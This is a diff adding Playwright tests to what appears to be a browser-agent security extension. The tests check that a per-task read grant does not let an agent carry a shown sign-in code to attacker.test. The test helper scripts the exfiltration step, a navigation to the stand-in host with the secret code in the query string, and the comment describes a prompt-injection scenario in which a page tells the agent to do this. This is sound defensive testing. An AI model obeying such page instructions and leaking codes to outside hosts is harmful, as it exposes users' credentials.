@@ -614,6 +614,52 @@ test.describe('the taint across a worker restart, no MAIN-world hooks', () => {
   });
 });
 
+/**
+ * A user who lets the agent read another site for the rest of the task ("Allow for this task" on a
+ * scripted read) gives it a site to read, not a place to carry what the task's pages showed. The agent,
+ * told by a page to open attacker.test with the sign-in code in the address, navigates: only the floor
+ * can stop a navigation before it is sent, and a grant's allow rule must not lift the taint's.
+ */
+test.describe('a read grant for an unnamed site and the taint', () => {
+  const grantThenLeak = async (browser: AgentBrowser, id: string): Promise<{ granted: number; leaked: number }> => {
+    const secret = showSecret(id);
+    server.setPage(`/${id}/news`, `<!doctype html><title>news</title><p>news</p>`);
+    const page = await browser.context.newPage();
+    await page.goto(`${server.origin(HOME)}/show/${id}`);
+    await taintRecorded(browser, secret);
+    const read = page.evaluate((u) => fetch(u).then((r) => r.status, (e: unknown) => String(e)), `${server.origin(ATTACKER)}/${id}/news`);
+    if (browser.extensionId !== null) {
+      const [ask] = await browser.waitForApprovals(1);
+      await browser.answer(ask!.id, 'task');
+    }
+    await read;
+    const granted = server.hits(`/${id}/news`, ATTACKER).length;
+    await page.goto(`${server.origin(ATTACKER)}/${id}/leak?c=${secret.code}`).catch(() => undefined);
+    await sleep(QUIET_MS);
+    return { granted, leaked: server.hits(`/${id}/leak`, ATTACKER).length };
+  };
+
+  test('after "Allow for this task" on a read of attacker.test, the agent still cannot open it with the shown code', async () => {
+    test.setTimeout(90_000);
+    const browser = await launch('full');
+    try {
+      await browser.setPolicy(READ_ONLY);
+      expect(await grantThenLeak(browser, `grant${++caseNumber}`)).toEqual({ granted: 1, leaked: 0 });
+    } finally {
+      await browser.close();
+    }
+  });
+
+  test('negative control: without the extension the code arrives', async () => {
+    const browser = await launch(null);
+    try {
+      expect(await grantThenLeak(browser, `grant-control${++caseNumber}`)).toEqual({ granted: 1, leaked: 1 });
+    } finally {
+      await browser.close();
+    }
+  });
+});
+
 test.describe('floor exfiltration without the extension (negative control)', () => {
   let browser: AgentBrowser;
   test.beforeAll(async () => {
